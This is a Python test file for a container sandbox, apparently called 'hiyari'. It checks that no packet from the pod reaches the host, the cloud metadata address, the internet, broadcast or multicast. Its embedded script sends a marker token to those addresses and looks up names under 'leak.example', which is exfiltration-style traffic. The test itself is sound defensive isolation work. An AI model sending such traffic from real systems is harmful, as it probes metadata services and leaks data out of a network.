"""No packet leaves the pod: counted on the host, on every interface, while the pod sends to everywhere."""

from __future__ import annotations

import contextlib
import secrets
import select
import socket
import threading
import time

import pytest

from hiyari.events import Egress, NameLookedUp

pytestmark = pytest.mark.docker
ETH_P_ALL = 3
BLAST = """
import socket, sys
token, tcp_port, udp_port, addresses = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4:]
marker = token.encode()
for address in addresses:
    for family, kind, port in ((2, 1, tcp_port), (2, 2, udp_port), (2, 2, 53), (2, 2, 443), (2, 1, 80)):
        s = socket.socket(family, kind)
        s.settimeout(0.5)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            s.connect((address, port))
            s.send(marker)
        except OSError as error:
            pass
        s.close()
for name in (token + ".leak.example", "a." + token + ".example"):
    try:
        socket.getaddrinfo(name, 80)
    except OSError:
        pass
"""


class Sniffer:
    """Counts packets with a marker on all interfaces of the host, in a thread."""

    def __init__(self, marker: bytes) -> None:
        self.marker, self.stopped = marker, threading.Event()
        self.seen: list[tuple[str, bytes]] = []
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)
        self.thread = threading.Thread(target=self.watch, daemon=True)
        self.thread.start()

    def watch(self) -> None:
        while not self.stopped.is_set():
            if select.select([self.socket], [], [], 0.05)[0]:
                packet, (interface, *_) = self.socket.recvfrom(1 << 16)
                if self.marker in packet:
                    self.seen.append((interface, packet))

    def stop(self) -> None:
        self.stopped.set()
        self.thread.join()
        self.socket.close()


class Canary:
    """A TCP and a UDP server on all the host's addresses, that count who came."""

    def __init__(self) -> None:
        self.came = 0
        self.stopped = threading.Event()
        self.tcp = socket.create_server(("", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("", 0))
        self.ports = self.tcp.getsockname()[1], self.udp.getsockname()[1]
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stopped.is_set():
            for ready in select.select([self.tcp, self.udp], [], [], 0.05)[0]:
                self.came += 1
                if ready is self.tcp:
                    self.tcp.accept()[0].close()
                else:
                    self.udp.recv(1 << 16)

    def stop(self) -> None:
        self.stopped.set()
        self.thread.join()
        self.tcp.close()
        self.udp.close()


def host_addresses() -> list[str]:
    """All IPv4 addresses of the host, its gateway's neighbours included."""
    import fcntl
    import struct

    found = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        for _, name in socket.if_nameindex():
            with contextlib.suppress(OSError):
                answer = fcntl.ioctl(asking.fileno(), 0x8915, struct.pack("256s", name.encode()[:15]))
                found.append(socket.inet_ntoa(answer[20:24]))
    return found


def test_no_packet_leaves_the_pod(cell):
    """Marked packets to the host's own addresses, metadata, broadcast, multicast and the internet: none arrives.

    The counters are proven first: a packet the host sends to itself is seen by both.
    """
    token = "hiyari" + secrets.token_hex(8)
    try:
        sniffer = Sniffer(token.encode())
    except PermissionError:
        pytest.skip("counting packets on the host needs root")
    canary = Canary()
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
            own.sendto(token.encode(), ("127.0.0.1", canary.ports[1]))
        deadline = time.monotonic() + 5
        # A packet on the loopback interface is seen twice: going out and coming in.
        while (len(sniffer.seen) < 2 or canary.came == 0) and time.monotonic() < deadline:
            time.sleep(0.02)
        assert len(sniffer.seen) == 2 and canary.came == 1, "the counters do not count"
        sniffer.seen.clear()
        canary.came = 0
        outside = [
            "169.254.169.254",
            "8.8.8.8",
            "93.184.216.34",
            "10.0.2.2",
            "192.168.1.1",
            "255.255.255.255",
            "224.0.0.251",
        ]
        addresses = sorted({*host_addresses(), "172.17.0.1", *outside} - {"127.0.0.1"})
        cell.says(f"cat > /tmp/blast.py <<'END'\n{BLAST}\nEND")
        ports = " ".join(map(str, canary.ports))
        cell.says(f"python3 /tmp/blast.py {token} {ports} {' '.join(addresses)}; rm /tmp/blast.py", 120)
        time.sleep(0.3)
        assert sniffer.seen == []
        assert canary.came == 0
    finally:
        sniffer.stop()
        canary.stop()
    reached = {(event.address, event.port) for event in cell.events if isinstance(event, Egress)}
    for address in addresses:
        if address not in ("255.255.255.255", "224.0.0.251"):
            assert (address, canary.ports[0]) in reached and (address, canary.ports[1]) in reached, address
    sent = [event for event in cell.events if isinstance(event, Egress) and token.encode() in event.payload.read()]
    assert len(sent) >= 2 * len(addresses)
    assert any(token in event.name for event in cell.events if isinstance(event, NameLookedUp))
    assert {event.source for event in sent} == {"agent"}
